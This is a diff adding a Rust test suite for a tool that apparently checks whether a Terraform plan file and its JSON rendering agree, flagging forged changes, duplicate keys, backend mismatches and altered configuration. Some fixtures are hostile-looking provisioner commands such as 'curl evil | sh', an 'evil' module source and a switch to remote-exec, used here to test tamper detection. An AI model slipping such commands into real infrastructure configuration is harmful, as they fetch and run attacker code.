@@ -1,0 +1,276 @@
+//! That what one says and the other does not is named.
+
+use countersign_plan::planfile::{Kind, Part, Unread};
+use serde_json::{Value, json};
+
+use crate::world::{MAIN, World, told};
+use crate::writer::{Message, dynamic, entry, packed_value};
+
+/// The world with its JSON changed at one place; says what is told of it.
+fn forged(pointer: &str, value: Value) -> Vec<String> {
+    let mut world = World::new();
+    *world.json.pointer_mut(pointer).unwrap() = value;
+    let agreement = world.compare();
+    assert!(agreement.agreed().is_none(), "{pointer}");
+    told(&agreement)
+}
+
+#[test]
+fn a_file_and_its_json_agree() {
+    let world = World::new();
+    let agreement = world.compare();
+    assert_eq!(told(&agreement), [""; 0]);
+    let agreed = agreement.agreed().unwrap();
+    assert_eq!(agreed.file(), world.read().unwrap().digest());
+}
+
+#[test]
+fn a_value_that_is_shown_in_another_way_is_named() {
+    assert_eq!(
+        forged("/resource_changes/0/change/after/name", json!("harmless")),
+        ["Change Differs x_thing.a[0] change.after.name"]
+    );
+    assert_eq!(
+        forged("/resource_changes/0/change/after/size", json!(1.50001)),
+        ["Change Differs x_thing.a[0] change.after.size"]
+    );
+    assert_eq!(
+        forged("/resource_changes/0/change/after/any/1", json!("1")),
+        ["Change Differs x_thing.a[0] change.after.any.1"]
+    );
+    assert_eq!(
+        forged("/resource_changes/1/change/actions", json!(["create", "delete"])),
+        ["Change Differs x_thing.b[\"k\"] change.actions.0", "Change Differs x_thing.b[\"k\"] change.actions.1"]
+    );
+}
+
+#[test]
+fn a_change_that_only_one_of_them_has_is_named() {
+    let mut world = World::new();
+    world.json["resource_changes"].as_array_mut().unwrap().remove(0);
+    assert_eq!(told(&world.compare()), ["Change OnlyInFile x_thing.a[0] "]);
+    let mut world = World::new();
+    world.changes.remove(0);
+    assert!(told(&world.compare()).contains(&"Change OnlyInJson x_thing.a[0] ".to_owned()));
+    let mut world = World::new();
+    let again = world.changes[0].clone();
+    world.changes.push(again);
+    assert!(world.compare().differences.iter().any(|it| it.part == Part::Change && it.kind == Kind::Twice));
+    let mut world = World::new();
+    let again = world.json["resource_changes"][0].clone();
+    world.json["resource_changes"].as_array_mut().unwrap().push(again);
+    assert_eq!(told(&world.compare()), ["Change Twice x_thing.a[0] "]);
+}
+
+#[test]
+fn marks_that_only_one_of_them_has_are_named() {
+    assert_eq!(
+        forged("/resource_changes/0/change/after_sensitive/token", json!(false)),
+        ["Change Differs x_thing.a[0] change.after_sensitive.token"]
+    );
+    // What neither the file nor the schema marks is no secret: to hide it would hide a change.
+    assert_eq!(
+        forged("/resource_changes/0/change/after_sensitive/tags", json!(true)),
+        ["Change Differs x_thing.a[0] change.after_sensitive.tags"]
+    );
+}
+
+#[test]
+fn a_key_that_stands_twice_is_named() {
+    let world = World::new();
+    let text = world.json.to_string();
+    let file = world.read().unwrap();
+    for (from, to) in [
+        (r#""name":"a","names""#, r#""name":"b","name":"a","names""#),
+        (r#""errored":false"#, r#""errored":true,"errored":false"#),
+        (r#""constant_value":"echo harmless""#, r#""constant_value":"x","constant_value":"echo harmless""#),
+    ] {
+        let twice = text.replacen(from, to, 1);
+        assert_ne!(twice, text, "{from}");
+        let agreement = crate::world::agreement(&file, &twice);
+        assert!(agreement.differences.iter().any(|it| it.kind == Kind::Twice), "{from}");
+    }
+    for around in [format!("::debug::x\n{text}"), format!("{text}\n::x")] {
+        assert!(crate::world::agreement(&file, &around).agreed().is_none());
+    }
+}
+
+#[test]
+fn what_was_asked_for_is_what_the_file_has() {
+    let change = |edit: &dyn Fn(&mut World)| {
+        let mut world = World::new();
+        edit(&mut world);
+        told(&world.compare())
+    };
+    assert_eq!(change(&|it| it.tail = it.tail.clone().number(17, 1)), ["Mode NotAsked  "]);
+    assert_eq!(change(&|it| it.tail = it.tail.clone().bytes(5, "x_thing.c")), ["Targets NotAsked x_thing.c "]);
+    assert_eq!(change(&|it| it.tail = it.tail.clone().bytes(32, "action.x.y")), ["Targets NotAsked action.x.y "]);
+    assert_eq!(change(&|it| it.tail = it.tail.clone().bytes(16, "x_thing.c")), ["ForceReplace NotAsked x_thing.c "]);
+    let backend = |kind: &str, config: Value, workspace: &str| {
+        let mut world = World::new();
+        // The backend stands last.
+        let message = Message::new().bytes(1, kind).value(2, &packed_value(&config)).bytes(3, workspace);
+        let mut tail = world.tail.0.clone();
+        let at = tail.windows(2).rposition(|it| it == [13 << 3 | 2, u8::try_from(tail.len()).unwrap_or(0)]);
+        let at = at.unwrap_or_else(|| tail.iter().rposition(|it| *it == 13 << 3 | 2).unwrap());
+        tail.truncate(at);
+        world.tail = Message(tail).message(13, &message);
+        told(&world.compare())
+    };
+    assert_eq!(backend("local", json!({"path": "s.tfstate", "workspace_dir": null}), "default"), [""; 0]);
+    assert_eq!(backend("s3", json!({"path": "s.tfstate"}), "default"), ["Backend NotAsked  type"]);
+    assert_eq!(backend("local", json!({"path": "other"}), "default"), ["Backend NotAsked  path"]);
+    assert_eq!(
+        backend("local", json!({"path": "s.tfstate", "workspace_dir": "x"}), "default"),
+        ["Backend NotAsked  workspace_dir"]
+    );
+    assert_eq!(backend("local", json!({}), "default"), ["Backend NotAsked  path"]);
+    assert_eq!(backend("local", json!({"path": "s.tfstate"}), "stage"), ["Workspace NotAsked  "]);
+}
+
+#[test]
+fn a_type_without_a_schema_leaves_the_check_open() {
+    let world = World::new();
+    let file = world.read().unwrap();
+    let plan = countersign_plan::Plan::read(world.json.to_string().into_bytes()).unwrap();
+    let asked = countersign_plan::planfile::Asked {
+        tool_version: "1.14.0",
+        mode: countersign_plan::Mode::Normal,
+        targets: &["x_thing.a"],
+        excludes: &[],
+        force_replace: &["x_thing.b[\"k\"]"],
+        backend: countersign_plan::planfile::AskedBackend { kind: "local", config: None, workspace: "default" },
+    };
+    let none = countersign_plan::schema::Schemas::default();
+    let agreement = countersign_plan::planfile::compare(&file, &plan, &none, &asked);
+    assert!(agreement.agreed().is_none());
+    assert!(agreement.unread.contains(&Unread::BackendSettings));
+    assert!(agreement.unread.contains(&Unread::Schema { provider: "example.test/a/x".into(), kind: "x_thing".into() }));
+}
+
+#[test]
+fn a_text_is_a_number_only_where_the_schema_says_so() {
+    // A name that is the text "5" is not the number 5, and a list of two texts is no value with its type.
+    let mut world = World::new();
+    let mut text = packed_value(
+        &json!({"any": null, "id": null, "name": "5", "names": [], "rule": [], "size": 1, "tags": null, "token": null}),
+    );
+    let create = |value: &[u8]| crate::world::resource("x_thing.n", &Message::new().number(1, 1).value(2, value));
+    world.changes = vec![create(&text)];
+    let shown = json!([{"address": "x_thing.n", "mode": "managed", "type": "x_thing", "name": "n", "provider_name": "example.test/a/x",
+        "change": {"actions": ["create"], "before": null, "after": {"any": null, "id": null, "name": 5, "names": [], "rule": [], "size": 1, "tags": null, "token": null},
+        "after_unknown": {}, "before_sensitive": false, "after_sensitive": {"names": [], "rule": [], "token": true}}}]);
+    world.json["resource_changes"] = shown;
+    assert!(told(&world.compare()).contains(&"Change Differs x_thing.n change.after.name".to_owned()));
+    let pair = dynamic("\"string\"", &json!("y"));
+    let names = text.windows(6).position(|it| it == b"\xa5names").unwrap() + 6;
+    text.splice(names..=names, pair);
+    world.changes = vec![create(&text)];
+    assert!(told(&world.compare()).contains(&"Change Misfit x_thing.n ".to_owned()));
+}
+
+#[test]
+fn another_configuration_of_the_same_provider_is_named() {
+    let mut world = World::new();
+    let with = |provider: &str| {
+        let change = Message::new().number(1, 5).value(2, &[0xc0]);
+        Message::new().bytes(8, provider).message(9, &change).bytes(13, "x_thing.a[1]")
+    };
+    world.changes.push(with("provider[\"example.test/a/x\"].prod"));
+    let named = "Change Differs x_thing.a[1] provider".to_owned();
+    assert!(told(&world.compare()).contains(&named));
+    world.changes.pop();
+    world.changes.push(with("provider[\"example.test/a/x\"]"));
+    assert!(!told(&world.compare()).contains(&named));
+    // What is not in the configuration goes with what made it.
+    let mut world = World::new();
+    let at = world.entries.iter().position(|it| it.name == "tfstate").unwrap();
+    let state = String::from_utf8(world.entries[at].content.clone()).unwrap();
+    world.entries[at] = entry("tfstate", state.replace("\"name\":\"b\"", "\"name\":\"z\""));
+    let change = Message::new().number(1, 5).value(2, &[0xc0]);
+    let gone = Message::new()
+        .bytes(8, "provider[\"example.test/a/x\"].prod")
+        .message(9, &change)
+        .bytes(13, "x_thing.z[\"k\"]");
+    world.changes.push(gone);
+    assert!(told(&world.compare()).contains(&"Change Differs x_thing.z[\"k\"] provider".to_owned()));
+}
+
+#[test]
+fn a_program_that_is_shown_in_another_way_is_named() {
+    let command = "/configuration/root_module/resources/0/provisioners/0/expressions/command/constant_value";
+    assert_eq!(forged(command, json!("echo nothing")), ["Configuration Differs x_thing.a provisioners.0.command"]);
+    let file = |from: &str, to: &str| {
+        let mut world = World::new();
+        let at = world.entries.iter().position(|it| it.name == "tfconfig/m-/main.tf").unwrap();
+        world.entries[at] = entry("tfconfig/m-/main.tf", MAIN.replacen(from, to, 1));
+        told(&world.compare())
+    };
+    assert_eq!(file("echo harmless", "curl evil | sh"), ["Configuration Differs x_thing.a provisioners.0.command"]);
+    assert_eq!(
+        file("\"echo harmless\"", "<<-EOT\n  echo evil\n  EOT"),
+        ["Configuration Differs x_thing.a provisioners.0.command"]
+    );
+    assert_eq!(file("\"echo harmless\"", "file(\"evil\")"), ["Configuration Differs x_thing.a provisioners.0.command"]);
+    assert_eq!(file("local-exec", "remote-exec"), ["Configuration Differs x_thing.a provisioners.0"]);
+    assert_eq!(file("\"./m\"", "\"github.com/evil/m\""), ["Configuration Differs module.m source"]);
+    assert_eq!(file("sensitive = true", "sensitive = false"), ["Configuration Differs output.o sensitive"]);
+    assert_eq!(file("var.zone", "\"west\""), ["Configuration Differs provider.x.east expressions.zone"]);
+    assert_eq!(file("count = 1", "count = 2"), ["Configuration Differs x_thing.a count_expression"]);
+    assert_eq!(file("resource \"x_thing\" \"b\"", "resource \"x_thing\" \"c\"").len(), 2);
+    let more = "provisioner \"local-exec\" {\n    command = \"evil\"\n  }\n  provisioner";
+    assert_eq!(file("provisioner", more).len(), 2);
+}
+
+#[test]
+fn files_that_override_and_files_in_json_count_as_the_tool_reads_them() {
+    let with = |name: &str, content: &str| {
+        let mut world = World::new();
+        world.entries.push(entry(&format!("tfconfig/m-/{name}"), content));
+        told(&world.compare())
+    };
+    assert_eq!(with("override.tf", ""), [""; 0]);
+    assert_eq!(with("more.tf.json", "{}"), [""; 0]);
+    assert_eq!(
+        with("x_override.tf", "resource \"x_thing\" \"a\" {\n  name = \"evil\"\n}\n"),
+        ["Configuration Differs x_thing.a expressions.name"]
+    );
+    assert_eq!(
+        with(
+            "x_override.tf",
+            "resource \"x_thing\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"evil\"\n  }\n}\n"
+        ),
+        ["Configuration Differs x_thing.a provisioners.0.command"]
+    );
+    let override_in_json = r#"{"resource":{"x_thing":{"a":{"provisioner":{"local-exec":{"command":"evil"}}}}}}"#;
+    assert_eq!(
+        with("y_override.tf.json", override_in_json),
+        ["Configuration Differs x_thing.a provisioners.0.command"]
+    );
+    let more = r#"{"resource":{"x_thing":{"z":{"name":"${x_thing.a[0].id}"}}}}"#;
+    assert_eq!(with("more.tf.json", more), ["Configuration OnlyInFile x_thing.z "]);
+}
+
+#[test]
+fn configuration_that_is_not_understood_leaves_the_check_open() {
+    for (name, content) in [
+        ("override.tf", "resource \"x_thing\" \"nowhere\" {\n}\n".to_owned()),
+        ("more.tf.json", "{\"resource\":[1]}".to_owned()),
+        ("twice.tf.json", "{\"variable\":{},\"variable\":{}}".to_owned()),
+        ("deep.tf", format!("locals {{\n  x = {}1{}\n}}\n", "(".repeat(100_000), ")".repeat(100_000))),
+        ("signs.tf", format!("locals {{\n  x = {}true\n}}\n", "!".repeat(100_000))),
+        ("damaged.tf", "resource {".to_owned()),
+    ] {
+        let mut world = World::new();
+        world.entries.push(entry(&format!("tfconfig/m-/{name}"), content));
+        let agreement = world.compare();
+        assert!(agreement.agreed().is_none(), "{name}");
+        assert_eq!(agreement.unread, [Unread::Configuration { module: "".into(), what: name.into() }], "{name}");
+    }
+    let mut world = World::new();
+    let at = world.entries.iter().position(|it| it.name == "tfconfig/m-/main.tf").unwrap();
+    // With a condition the value is made here as well, so that another one is seen.
+    let computed = MAIN.replacen("\"echo harmless\"", "true ? \"evil\" : \"echo harmless\"", 1);
+    world.entries[at] = entry("tfconfig/m-/main.tf", computed);
+    assert!(world.compare().agreed().is_none());
+}
